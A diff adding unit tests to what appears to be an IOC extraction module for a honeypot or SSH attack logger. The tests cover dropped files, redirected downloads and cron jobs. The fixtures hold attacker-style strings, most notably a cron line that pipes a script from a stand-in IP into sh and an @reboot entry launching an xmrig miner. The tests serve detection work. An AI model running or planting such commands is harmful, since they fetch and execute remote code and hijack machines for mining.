@@ -28,6 +28,13 @@ describe('IOC extraction', () => {
     expect(iocs.every((ioc) => ioc.source === 'command')).toBe(true)
   })
 
+  it('files dropped in /tmp, /var/tmp and /dev/shm are named; directories and other paths are not', () => {
+    const { iocs } = analyseEvent(
+      shellCommand('cp /bin/ls /dev/shm/.ssh-agent; echo x > /var/tmp/.cache/kd; cd /tmp/; cat /etc/hosts'),
+    )
+    expect(values(iocs, 'filename')).toEqual(['.ssh-agent', 'kd'])
+  })
+
   it('domains come from URL hosts and bare command arguments, not from file names with TLD-like extensions', () => {
     const { iocs } = analyseEvent(
       shellCommand(
@@ -99,6 +106,41 @@ describe('IOC extraction', () => {
         { kind: 'filename', value: 'xmrig', source: 'download' },
       ]),
     )
+  })
+
+  it('downloads after a redirect: the final URL and the address really connected to', () => {
+    const { iocs } = analyseEvent(
+      event('download', 'ssh', {
+        username: 'root',
+        tool: 'wget',
+        url: 'http://short.example.top/m',
+        final_url: 'http://cdn.example.top/files/xmrig',
+        remote_ip: '172.20.0.9',
+        filename: 'm',
+        path: '/root/m',
+        status: 200,
+        sha256: SHA256,
+        size: 10,
+        truncated: false,
+      }),
+    )
+    expect(values(iocs, 'url')).toEqual(['http://short.example.top/m', 'http://cdn.example.top/files/xmrig'])
+    expect(values(iocs, 'ip')).toEqual(['172.20.0.9'])
+    expect(values(iocs, 'domain')).toEqual(['short.example.top', 'cdn.example.top'])
+    expect(values(iocs, 'filename')).toEqual(['m', 'xmrig'])
+  })
+
+  it('cron jobs: URLs, IPs and file names in the installed lines', () => {
+    const { iocs } = analyseEvent(
+      event('cron_job', 'ssh', {
+        via: 'crontab',
+        jobs: '*/5 * * * * curl -fsSL http://198.51.100.4/c.sh | sh\n@reboot /tmp/.x/xmrig',
+      }),
+    )
+    expect(values(iocs, 'url')).toEqual(['http://198.51.100.4/c.sh'])
+    expect(values(iocs, 'ip')).toEqual(['198.51.100.4'])
+    expect(values(iocs, 'filename')).toEqual(['c.sh', 'xmrig'])
+    expect(iocs.every((ioc) => ioc.source === 'command')).toBe(true)
   })
 
   it('uploads (scp, ftp): sha256 and file name', () => {
